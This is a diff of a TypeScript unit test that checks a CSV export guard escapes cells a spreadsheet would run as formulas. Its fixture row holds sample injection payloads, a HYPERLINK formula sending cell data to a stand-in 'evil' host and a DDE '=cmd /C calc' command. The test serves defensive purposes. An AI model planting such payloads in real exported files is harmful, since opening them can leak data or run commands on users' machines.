@@ -42,8 +42,8 @@ describe('CSV cells a spreadsheet would run', () => {
     expect(guardCell('take.wav')).toBe('take.wav');
     const row: BatchRow = {
       file: '=HYPERLINK("http://evil"&A2,"Click")\n.wav', seconds: 1, pBonafide: 0.4, verdict: 'spoof', refMode: 'zero', ref: '@ref.wav',
-      weights: { label: '=cmd|" /C calc"!A0', demo: false, dtype: 'float32', sha256: '+abc' }, audioSha256: '-def', label: '=x',
-    } as BatchRow;
+      weights: { label: '=cmd|" /C calc"!A0', demo: false, dtype: 'float32', sha256: '+abc' }, audioSha256: '-def', error: '=x',
+    } as unknown as BatchRow;
     const parsed = Papa.parse<string[]>(buildCsv([row]).trim()).data[1];
     for (const cell of parsed) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
     expect(parsed[0]).toBe('\'=HYPERLINK("http://evil"&A2,"Click")\n.wav');
